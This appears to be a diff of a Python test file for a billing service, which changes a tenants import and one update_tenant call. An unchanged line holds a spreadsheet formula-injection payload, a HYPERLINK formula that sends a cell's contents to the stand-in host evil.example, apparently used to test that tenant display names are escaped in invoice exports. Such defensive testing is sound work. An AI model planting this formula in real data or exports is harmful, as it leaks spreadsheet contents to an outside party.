@@ -13,7 +13,7 @@ import pytest
 from billing.services.invoicing import draft_invoice
 from billing.services.rates import create_rate_card
 from core.audit import Actor
-from tenants import services
+from tenants.services import lifecycle
 
 ADMIN = Actor.console("tests")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the invoice")'
@@ -42,7 +42,7 @@ def invoice(people):
 
 
 def named(people, display_name: str, invoice) -> None:
-    services.update_tenant(actor=Actor.of(people["admin"]), tenant=people["a"], display_name=display_name)
+    lifecycle.update_tenant(actor=Actor.of(people["admin"]), tenant=people["a"], display_name=display_name)
     invoice.lines.create(
         kind="credit", gpu_class="h100-80gb", description=display_name, charge_start=invoice.period_start,
         charge_end=invoice.period_end, gpu_hours=1, list_unit_price=2, unit_price=2, list_amount=-2,
